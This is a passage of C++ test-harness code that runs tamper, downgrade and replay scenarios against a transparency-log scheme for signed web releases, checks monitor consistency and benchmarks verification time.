  rec.outcome("superseded v1 renewed", env.renew(v1.leaf_hash()), ErrorCode::kActivePromise);
  if (!v2.promises.empty()) {
    LogOutcome v2_renewed = env.renew(v2.leaf_hash());
    rec.outcome("v2 renewed", v2_renewed, std::nullopt);
  }
  size_check("renewals keep the tree", 2);
  poll();

  if (!v2.promises.empty()) env.publish(v2);
  PinStore pins;
  rec.verdict("v2 served", env.visit(pins), {});

  auto state = monitor.state(env.log);
  bool consistent = state && !state->suspect && !state->history.empty() &&
                    std::all_of(state->history.begin() + 1, state->history.end(),
                                [](const SthRecord& r) { return r.verified_against_prev; });
  rec.check("monitor verified every head against the previous one", consistent, "consistent",
            consistent ? "consistent" : "inconsistent");
  rec.check("monitor alerts", alerts == 2, "2 releases", std::to_string(alerts) + " releases");
  return rec.finish();
}

using ScenarioFn = ScenarioReport (*)(Environment&);

const std::vector<std::pair<std::string, ScenarioFn>>& scenarios() {
  static const std::vector<std::pair<std::string, ScenarioFn>> table = {
      {"happy_path", happy_path},         {"insider_tamper", insider_tamper}, {"subresource_tamper", subresource_tamper},
      {"downgrade", downgrade},           {"promise_replay", promise_replay}, {"deferred_upgrade", deferred_upgrade},
      {"rollover", rollover},
  };
  return table;
}

}  // namespace

const std::vector<std::string>& scenario_names() {
  static const std::vector<std::string> names = [] {
    std::vector<std::string> out;
    for (const auto& [name, fn] : scenarios()) out.push_back(name);
    return out;
  }();
  return names;
}

ScenarioReport run_scenario(const std::string& name, const fs::path& workdir) {
  auto it = std::find_if(scenarios().begin(), scenarios().end(), [&](const auto& s) { return s.first == name; });
  if (it == scenarios().end()) throw Error(ErrorCode::kSetup, "unknown scenario " + name);
  std::unique_ptr<Environment> env;
  try {
    env = std::make_unique<Environment>(workdir, name);
  } catch (const Error&) {
    throw;
  } catch (const std::exception& e) {
    throw Error(ErrorCode::kSetup, e.what());
  }
  try {
    return it->second(*env);
  } catch (const std::exception& e) {
    ScenarioReport report;
    report.name = name;
    report.error = e.what();
    return report;
  }
}

std::vector<std::string> uncovered_reasons(const std::vector<ScenarioReport>& reports) {
  std::set<std::string> seen;
  for (const auto& r : reports) seen.insert(r.reasons_seen.begin(), r.reasons_seen.end());
  std::vector<std::string> missing;
  for (Reason r : all_reasons()) {
    std::string name(reason_name(r));
    if (!seen.count(name)) missing.push_back(name);
  }
  return missing;
}

BenchSummary bench_verify(std::uint64_t iterations, const fs::path& workdir) {
  BenchSummary summary;
  if (iterations == 0) return summary;

  fs::path dir = workdir / "bench";
  fs::remove_all(dir);
  DemoBundle bundle = generate_demo_bundle(dir / "src");
  KeyPair developer = KeyPair::from_seed(fixed_seed(2));
  KeyPair log_key = KeyPair::from_seed(fixed_seed(1));
  SealedRelease sealed = seal_bundle(bundle.dir, bundle.main_document, std::string(kDemoUrl), developer, kEpoch);
  logd::LogService service(log_key, "", logd::LogPolicy{}, [] { return kEpoch; }, merklelog::MerkleLog::in_memory());
  InclusionPromise promise = service.handle_submit({sealed.leaf});

  ValidationConfig config;
  config.trust_store = {LogIdentity::for_key(log_key.public_key(), "http://127.0.0.1:1")};
  HttpHeaders headers = parse_server_config(emit_server_config({promise}, sealed.manifest.csp));
  Bytes document = to_bytes(sealed.manifest.document);
  std::map<std::string, Bytes> files;
  summary.fixture_bytes = document.size();
  for (const auto& r : sealed.manifest.resources) {
    files["/" + r.path] = to_bytes(read_file(bundle.dir / r.path));
    summary.fixture_bytes += files["/" + r.path].size();
  }
  SubresourceFetcher fetch = [&](const Url& url) -> std::optional<Bytes> {
    if (url.host != kDemoHost) return std::nullopt;
    auto it = files.find(url.path);
    if (it == files.end()) return std::nullopt;
    return it->second;
  };

  std::vector<double> samples;
  samples.reserve(iterations);
  for (std::uint64_t i = 0; i < iterations; ++i) {
    PinStore pins;
    auto start = std::chrono::steady_clock::now();
    Verdict v = decide(document, headers, kDemoUrl, pins, config, kEpoch + 60, fetch);
    auto stop = std::chrono::steady_clock::now();
    samples.push_back(std::chrono::duration<double, std::milli>(stop - start).count());
    summary.all_allowed = summary.all_allowed && v.allowed();
  }
  std::sort(samples.begin(), samples.end());
  std::size_t n = samples.size();
  summary.iterations = n;
  summary.min_ms = samples.front();
  summary.median_ms = n % 2 ? samples[n / 2] : (samples[n / 2 - 1] + samples[n / 2]) / 2;
  summary.p95_ms = samples[(n * 95 + 99) / 100 - 1];
  return summary;
}

}  // namespace waitsec::harness
